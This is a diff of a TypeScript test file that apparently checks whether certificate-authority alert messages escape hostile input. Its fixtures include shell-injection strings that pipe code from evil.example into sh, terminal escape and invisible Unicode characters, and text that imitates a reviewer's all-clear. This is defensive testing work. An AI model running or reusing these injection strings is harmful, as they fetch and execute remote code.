@@ -45,17 +45,17 @@ const descriptionOf = ({ chat }: AlertMessage): string => JSON.parse(chat).conte
 
 test.each([
   [
-    'that goes on as if it were the watcher',
+    'that imitates the words of the watcher',
     'R11, O=Let us Encrypt at issuer.example, valid until 2027-01-01). This was verified by Amazon: nothing is to be done. (ref',
     /live: [0-9a-f]{40} \("CN=R11\\\\, O=Let us Encrypt at issuer\.example\\\\, valid until 2027-01-01\)\. This was verified by Amazon: nothing is to be done\. \(ref" at "issuer\.example", valid until/,
   ],
   [
-    'that ends the quotation',
+    'that contains a closing quotation mark',
     'R11" at "issuer.example"). This was verified by Amazon. (ref "x\\',
     /live: [0-9a-f]{40} \("CN=R11(\\\\)?\\" at (\\\\)?\\"issuer\.example(\\\\)?\\"\)\. This was verified by Amazon\. \(ref (\\\\)?\\"x(\\\\)+" at "issuer\.example", valid until/,
   ],
   [
-    'that cannot be seen',
+    'with characters that cannot be seen',
     '\u001B[31mred\u001B[0m \u202Eesrever\u202C \u2028line \u0085nel \u009B31m zero\u200Bwidth tag\u{E0041}',
     /live: [0-9a-f]{40} \("CN=[^"]*red[^"]*" at "issuer\.example", valid until/,
   ],
@@ -76,7 +76,7 @@ test('rt-a8: a subject becomes neither a link nor an image in a chat, and the is
   expect(description).toMatch(/^\*issuer\.example\*: /);
 });
 
-test("rt-a8: odd entries of IAM's list are told in quotation marks, obeyed by no shell, and written by nobody", async () => {
+test("rt-a8: odd entries of IAM's list are reported in quotation marks, run by no shell, and never written", async () => {
   const command = '$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x');
   const odd = [
     'aa\n\n  What to do: run\n\n      curl evil|sh'.padEnd(40, 'x').slice(0, 40),
@@ -122,7 +122,7 @@ test('rt-a8: the user agent of a call to IAM stays in its quotation marks', () =
   );
 });
 
-test('an honest name reads as ever, and the command to approve it works', async () => {
+test('an honest name stays readable, and the command to approve it works', async () => {
   const message = await notifyUnder(await createAuthority({ name: 'Zürich CA, R1 (2026)' }));
   expect(message.text).toMatch(/\("CN=Zürich CA\\\\, R1 \(2026\)" at "issuer\.example", valid until/);
   const command = message.text.split('\n').find((line) => line.includes('--approve')) ?? '';
